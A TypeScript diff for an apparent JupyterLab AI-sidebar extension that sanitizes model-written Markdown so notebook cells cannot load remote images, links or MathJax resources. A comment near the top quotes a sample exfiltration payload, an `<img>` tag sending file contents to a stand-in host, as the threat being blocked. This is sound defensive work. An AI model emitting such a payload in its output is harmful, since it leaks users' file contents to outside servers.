@@ -1,5 +1,6 @@
 /**
- * What the sidebar renders never fetches anything.
+ * What the sidebar renders, and model text put into the notebook, never
+ * fetches anything.
  *
  * Candidate outputs come from the model's code, and explanations from the
  * model: an `<img src="http://host/?d=<file contents>">` in either would have
@@ -113,6 +114,41 @@ export function withoutRequests(html: string): string {
     }
   }
   return template.innerHTML;
+}
+
+/** MathJax commands that style, link or load (its `html` and `require` packages). */
+const MATH_COMMANDS =
+  /\\(style|class|cssId|href|data|require|unicode|url|includegraphics)(?![A-Za-z])/g;
+
+/**
+ * Markdown the model (or a kernel copy) wrote, made inert before it becomes a
+ * notebook cell. The sidebar renders through the no-request sanitizer, but a
+ * Markdown cell is rendered by JupyterLab's own, which keeps `http(s)`
+ * images, on arrival, after Accept and on every reopen, wherever the
+ * notebook goes. So the text loses every construct that could load
+ * something, whatever the Markdown parser makes of the rest: raw HTML
+ * (`<img>`, `<video>`, autolinks: the `<` is escaped), images (`![`), and
+ * the MathJax commands that style or load; links are kept as text (their
+ * targets shown, never followed: no `](`, no reference definitions, no bare
+ * URL turned into a link), and mermaid fences show as code. Escapes inside
+ * inline code show literally: a cosmetic cost in model prose, never a
+ * request.
+ */
+export function inertMarkdown(source: string): string {
+  let text = source;
+  // Removing the backslash could pair an earlier one with the next command: to a fixpoint.
+  for (let before = ''; before !== text;) {
+    before = text;
+    text = text.replace(MATH_COMMANDS, '$1');
+  }
+  return text
+    .replace(/<(?=[A-Za-z/!?])/g, '&lt;')
+    .replace(/!\[/g, '!\\[')
+    .replace(/\]\(/g, ']\\(')
+    .replace(/\]:/g, ']\\:')
+    .replace(/:\/\//g, ':\\/\\/')
+    .replace(/\bwww\./gi, m => `${m.slice(0, 3)}\\.`)
+    .replace(/((?:`{3,}|~{3,})[ \t]*)mermaid/gi, '$1text');
 }
 
 /** A sanitizer that runs JupyterLab's, then takes out what would fetch. */
